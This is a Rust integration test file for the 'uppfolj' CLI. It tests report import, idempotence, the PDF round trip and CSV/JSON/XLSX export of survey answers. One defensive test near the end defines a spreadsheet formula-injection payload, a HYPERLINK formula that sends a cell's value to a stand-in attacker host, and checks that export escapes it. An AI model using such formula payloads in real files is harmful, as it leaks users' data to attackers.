//! `uppfolj import report`, end to end on both backends: the seed into an empty database and into
//! the Göteborg set, idempotence, dry runs, and files it cannot read.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use uppfolj_model::{Key, ResponseState};
use uppfolj_store::Backend;
use uppfolj_store::HistoryWindow;
use uppfolj_store::testing::TestDb;

fn data(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../data/goteborg")
        .join(path)
}

fn uppfolj(url: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_uppfolj"))
        .args(args)
        .env("DATABASE_URL", url)
        .env("UPPFOLJ_LOG", "warn")
        .output()
        .unwrap()
}

fn ok(output: Output) -> String {
    assert!(
        output.status.success(),
        "failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

fn seed() -> String {
    data("reports/intraservice-2025.txt").display().to_string()
}

async fn the_seed_builds_an_empty_database_and_a_second_import_changes_nothing(backend: Backend) {
    let db = TestDb::new(backend).await;
    let import = [
        "import",
        "report",
        &seed(),
        "--organisation",
        "Nämnden för Intraservice",
        "--round",
        "2025",
    ];
    let dry = ok(uppfolj(&db.url, &[&import[..], &["--dry-run"]].concat()));
    assert!(
        dry.contains("Skulle skapa organisationen «Nämnden för Intraservice» (nämnd)"),
        "{dry}"
    );
    assert!(dry.contains("Skulle spara 17 svar"), "{dry}");
    assert!(
        db.store.definitions().await.unwrap().documents.is_empty(),
        "a dry run stores nothing"
    );

    let first = ok(uppfolj(&db.url, &import));
    assert_eq!(first.matches("Skapar frågan").count(), 17, "{first}");
    assert!(first.contains("Skapar omgången «Uppföljning 2025»"));
    assert!(first.trim_end().ends_with("Inläst: 17 svar ur rapporten för namnden-for-intraservice i omgången 2025 (17 ändrade)."), "{first}");

    let out = tempfile::tempdir().unwrap();
    let before = out.path().join("before");
    ok(uppfolj(
        &db.url,
        &["export", "definitions", "--out", before.to_str().unwrap()],
    ));
    let second = ok(uppfolj(&db.url, &import));
    assert!(!second.contains("Skapar"), "{second}");
    assert!(second.contains("(0 ändrade)"), "{second}");
    let after = out.path().join("after");
    ok(uppfolj(
        &db.url,
        &["export", "definitions", "--out", after.to_str().unwrap()],
    ));
    for file in ["documents", "rounds", "organisations.toml", "scales.toml"] {
        let read = |dir: &Path| {
            let path = dir.join(file);
            if path.is_dir() {
                let mut texts: Vec<String> = std::fs::read_dir(path)
                    .unwrap()
                    .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
                    .collect();
                texts.sort();
                texts.join("\n")
            } else {
                std::fs::read_to_string(path).unwrap()
            }
        };
        assert_eq!(
            read(&before),
            read(&after),
            "{file} unchanged by the second import"
        );
    }

    let round = Key::parse("2025").unwrap();
    let organisation = Key::parse("namnden-for-intraservice").unwrap();
    let stored = db.store.round(&round).await.unwrap();
    assert_eq!(stored.documents.len(), 3);
    assert_eq!(
        stored.state,
        uppfolj_model::RoundState::Closed,
        "a round made from a report is closed"
    );
    assert_eq!(
        db.store.answers(&round, &organisation).await.unwrap().len(),
        17
    );
    assert_eq!(
        db.store
            .response_status(&round, &organisation)
            .await
            .unwrap()
            .state,
        ResponseState::Submitted
    );
    assert_eq!(
        db.store
            .answer_history(&round, &organisation, &HistoryWindow::all())
            .await
            .unwrap()
            .changes
            .len(),
        17,
        "no duplicate history"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_seed_builds_an_empty_database_and_a_second_import_changes_nothing_sqlite() {
    the_seed_builds_an_empty_database_and_a_second_import_changes_nothing(Backend::Sqlite).await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_seed_builds_an_empty_database_and_a_second_import_changes_nothing_postgres() {
    the_seed_builds_an_empty_database_and_a_second_import_changes_nothing(Backend::Postgres).await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_seed_matches_the_goteborg_questions_by_text() {
    for backend in [Backend::Sqlite, Backend::Postgres] {
        let db = TestDb::new(backend).await;
        ok(uppfolj(
            &db.url,
            &["import", "definitions", data("").to_str().unwrap()],
        ));
        let said = ok(uppfolj(
            &db.url,
            &[
                "import",
                "report",
                &seed(),
                "--organisation",
                "intraservice",
                "--round",
                "Uppföljning 2025",
            ],
        ));
        assert!(
            !said.contains("Skapar"),
            "every heading and question exists already: {said}"
        );
        let round = Key::parse("2025").unwrap();
        let answers = db
            .store
            .answers(&round, &Key::parse("intraservice").unwrap())
            .await
            .unwrap();
        assert_eq!(answers.len(), 17);
        let first =
            &answers[&uppfolj_model::QuestionRef::parse("trygghetsprogram/strategi-1-1").unwrap()];
        assert_eq!(
            first.value.as_ref().map(ToString::to_string).as_deref(),
            Some("nej")
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn files_it_cannot_read_are_refused_with_where_and_why() {
    let db = TestDb::new(Backend::Sqlite).await;
    let dir = tempfile::tempdir().unwrap();
    let pdf = dir.path().join("rapport.pdf");
    std::fs::write(&pdf, b"%PDF-1.7\n...").unwrap();
    let refused = uppfolj(
        &db.url,
        &[
            "import",
            "report",
            pdf.to_str().unwrap(),
            "--organisation",
            "X",
            "--round",
            "2024",
        ],
    );
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains(&format!("{}: PDF:en kan inte läsas: ", pdf.display())),
        "{stderr}"
    );
    let letter = dir.path().join("brev.txt");
    std::fs::write(&letter, "Hej!\n\nDetta är ett brev.\n").unwrap();
    let refused = uppfolj(
        &db.url,
        &[
            "import",
            "report",
            letter.to_str().unwrap(),
            "--organisation",
            "X",
            "--round",
            "2024",
        ],
    );
    assert!(!refused.status.success());
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains(&format!(
            "{}:1: hittade inga numrerade rubriker",
            letter.display()
        )),
        "{stderr}"
    );
    let no_year = uppfolj(
        &db.url,
        &[
            "import",
            "report",
            &seed(),
            "--organisation",
            "X",
            "--round",
            "förra året",
        ],
    );
    assert!(
        String::from_utf8_lossy(&no_year.stderr)
            .contains("omgången «förra året» finns inte; ange ett år för att skapa den")
    );
    assert!(
        db.store
            .definitions()
            .await
            .unwrap()
            .organisations
            .is_empty(),
        "nothing stored"
    );
}

fn test_report(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../data/test-reports")
        .join(name)
        .display()
        .to_string()
}

fn render(url: &str, round: &str, organisation: &str, format: &str, out: &Path) {
    ok(uppfolj(
        url,
        &[
            "report",
            "organisation",
            "--round",
            round,
            "--organisation",
            organisation,
            "--format",
            format,
            "--out",
            out.to_str().unwrap(),
        ],
    ));
}

/// The seed and the test reports go in as text, out as PDF, and the PDF goes into an empty
/// database: both render the same Markdown (headings, questions, guidance, answers, comments,
/// unanswered questions, in order), and the PDF into the first database changes nothing.
async fn a_pdf_made_by_uppfolj_imports_back_to_the_same_answers(backend: Backend) {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (seed(), "Nämnden för Intraservice", "2025"),
        (
            test_report("exempelstaden-miljonamnden-2024.txt"),
            "Miljönämnden",
            "2024",
        ),
        (
            test_report("exempelstaden-miljonamnden-2025.txt"),
            "Miljönämnden",
            "2025",
        ),
    ];
    for (i, (file, organisation, round)) in cases.iter().enumerate() {
        let import = |url: &str, file: &str| {
            ok(uppfolj(
                url,
                &[
                    "import",
                    "report",
                    file,
                    "--organisation",
                    organisation,
                    "--round",
                    round,
                ],
            ))
        };
        let source = TestDb::new(backend).await;
        import(&source.url, file);
        let pdf = dir.path().join(format!("rapport-{i}.pdf"));
        render(&source.url, round, organisation, "pdf", &pdf);
        assert!(std::fs::read(&pdf).unwrap().starts_with(b"%PDF-"));

        let again = import(&source.url, pdf.to_str().unwrap());
        assert!(
            again.trim_end().ends_with("(0 ändrade)."),
            "the PDF of a stored response changes nothing: {again}"
        );

        let target = TestDb::new(backend).await;
        import(&target.url, pdf.to_str().unwrap());
        let (before, after) = (dir.path().join("before.md"), dir.path().join("after.md"));
        render(&source.url, round, organisation, "md", &before);
        render(&target.url, round, organisation, "md", &after);
        let before = std::fs::read_to_string(before).unwrap();
        assert!(before.contains("Svar: **"), "{before}");
        assert_eq!(before, std::fs::read_to_string(after).unwrap(), "{file}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pdf_made_by_uppfolj_imports_back_to_the_same_answers_sqlite() {
    a_pdf_made_by_uppfolj_imports_back_to_the_same_answers(Backend::Sqlite).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pdf_made_by_uppfolj_imports_back_to_the_same_answers_postgres() {
    a_pdf_made_by_uppfolj_imports_back_to_the_same_answers(Backend::Postgres).await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_imported_report_renders_back_with_the_same_headings_questions_answers_and_comments() {
    let db = TestDb::new(Backend::Sqlite).await;
    ok(uppfolj(
        &db.url,
        &[
            "import",
            "report",
            &seed(),
            "--organisation",
            "Nämnden för Intraservice",
            "--round",
            "2025",
        ],
    ));
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("rapport.md");
    ok(uppfolj(
        &db.url,
        &[
            "report",
            "organisation",
            "--round",
            "2025",
            "--organisation",
            "Nämnden för Intraservice",
            "--format",
            "md",
            "--out",
            out.to_str().unwrap(),
        ],
    ));
    let markdown = std::fs::read_to_string(&out).unwrap();
    assert!(
        markdown.starts_with(
            "# Uppföljning 2025 – Nämnden för Intraservice\n\nInskickat, ännu inte godkänt."
        ),
        "{markdown}"
    );

    // Everything the seed says, in the seed's order.
    let parsed =
        uppfolj_exchange::report::parse(&std::fs::read_to_string(seed()).unwrap()).unwrap();
    let mut expected = Vec::new();
    fn walk(section: &uppfolj_exchange::report::ParsedSection, out: &mut Vec<String>) {
        out.push(format!(" {} {}\n", section.number, section.heading));
        for question in &section.questions {
            out.push(format!("**{}**", question.text));
            out.push(format!("Svar: **{}**", question.answer.as_deref().unwrap()));
            if !question.comment.is_empty() {
                out.push(question.comment.clone());
            }
        }
        for child in &section.sections {
            walk(child, out);
        }
    }
    for document in &parsed.documents {
        walk(document, &mut expected);
    }
    let mut at = 0;
    for piece in expected {
        let found = markdown[at..]
            .find(&piece)
            .unwrap_or_else(|| panic!("«{piece}» after position {at} in\n{markdown}"));
        at += found + piece.len();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn exported_answers_have_one_row_per_seed_question_with_the_seeds_answers() {
    let db = TestDb::new(Backend::Postgres).await;
    ok(uppfolj(
        &db.url,
        &[
            "import",
            "report",
            &seed(),
            "--organisation",
            "Nämnden för Intraservice",
            "--round",
            "2025",
        ],
    ));
    let dir = tempfile::tempdir().unwrap();
    let export = |format: &str, extra: &[&str]| {
        let out = dir.path().join(format!("svar.{format}"));
        let args = [
            &[
                "export",
                "answers",
                "--round",
                "2025",
                "--format",
                format,
                "--out",
                out.to_str().unwrap(),
            ][..],
            extra,
        ]
        .concat();
        assert_eq!(
            ok(uppfolj(&db.url, &args)).trim(),
            format!("Skrev 17 rader till {}.", out.display())
        );
        std::fs::read(out).unwrap()
    };
    let parsed =
        uppfolj_exchange::report::parse(&std::fs::read_to_string(seed()).unwrap()).unwrap();
    let seed_rows: Vec<(String, String, String)> = parsed
        .questions()
        .into_iter()
        .map(|(_, q)| (q.text.clone(), q.answer.clone().unwrap(), q.comment.clone()))
        .collect();

    let csv = export("csv", &[]);
    assert!(
        csv.starts_with("\u{feff}".as_bytes()),
        "a byte-order mark for Excel"
    );
    let text = String::from_utf8(csv[3..].to_vec()).unwrap();
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "omgång",
            "organisation",
            "dokument",
            "avsnitt",
            "fråga",
            "vägledning",
            "svar",
            "kommentar",
            "status"
        ]
    );
    let rows: Vec<(String, String, String)> = reader
        .records()
        .map(|r| r.unwrap())
        .map(|r| (r[4].to_owned(), r[6].to_owned(), r[7].to_owned()))
        .collect();
    assert_eq!(rows, seed_rows);

    let comma = String::from_utf8(export("csv", &["--delimiter", ","])).unwrap();
    assert!(
        comma
            .lines()
            .next()
            .unwrap()
            .contains("omgång,organisation,dokument")
    );

    let json: serde_json::Value = serde_json::from_slice(&export("json", &[])).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 17);
    assert_eq!(json[0]["section"], "1.1.1 Målområde 1: Öka kunskapen");
    assert_eq!(json[0]["state"], "Inskickad");

    let xlsx = export("xlsx", &[]);
    assert!(xlsx.starts_with(b"PK"), "an xlsx file is a zip archive");
    assert!(xlsx.windows(24).any(|w| w == b"xl/worksheets/sheet1.xml"));
}

#[tokio::test(flavor = "multi_thread")]
async fn every_organisation_of_a_round_gets_its_own_report_file() {
    let db = TestDb::new(Backend::Sqlite).await;
    ok(uppfolj(
        &db.url,
        &["import", "definitions", data("").to_str().unwrap()],
    ));
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("rapporter");
    let said = ok(uppfolj(
        &db.url,
        &[
            "report",
            "organisations",
            "--round",
            "2025",
            "--format",
            "pdf",
            "--out",
            out.to_str().unwrap(),
        ],
    ));
    assert_eq!(
        said.trim(),
        format!("Skrev 41 rapporter till {}.", out.display())
    );
    let intraservice = std::fs::read(out.join("intraservice.pdf")).unwrap();
    let read = uppfolj_exchange::report::read(&intraservice)
        .unwrap()
        .report;
    assert_eq!(read.questions().len(), 17, "Intraservice's questions");
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 41);
}

/// A comment that Excel would evaluate as a link sending the next cell away.
const FORMULA: &str = "=HYPERLINK(\"http://angripare.example/?\"&B2;\"Läs mer\")";

#[tokio::test(flavor = "multi_thread")]
async fn an_exported_comment_that_excel_would_evaluate_is_text() {
    for backend in [Backend::Sqlite, Backend::Postgres] {
        let db = TestDb::new(backend).await;
        let dir = tempfile::tempdir().unwrap();
        // The seed, with its first comment written as a formula.
        let seed = std::fs::read_to_string(seed()).unwrap();
        let first = "Våra tjänsteleveranser styrs av andra \ntyper av lagstiftning och säkerhetskrav och \ndärför blir det svaret nej kopplat till \nprogrammet/planerna. ";
        assert!(seed.contains(first), "the seed's first comment");
        let report = dir.path().join("rapport.txt");
        std::fs::write(&report, seed.replacen(first, FORMULA, 1)).unwrap();
        ok(uppfolj(
            &db.url,
            &[
                "import",
                "report",
                report.to_str().unwrap(),
                "--organisation",
                "Nämnden för Intraservice",
                "--round",
                "2025",
            ],
        ));
        let out = dir.path().join("svar.csv");
        ok(uppfolj(
            &db.url,
            &[
                "export",
                "answers",
                "--round",
                "2025",
                "--format",
                "csv",
                "--out",
                out.to_str().unwrap(),
            ],
        ));
        let text = String::from_utf8(std::fs::read(out).unwrap()[3..].to_vec()).unwrap();
        let comments: Vec<String> = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap()[7].to_owned())
            .collect();
        assert_eq!(comments[0], format!("'{FORMULA}"), "{backend:?}");
        assert!(comments.iter().all(|c| !c.starts_with('=')));
    }
}
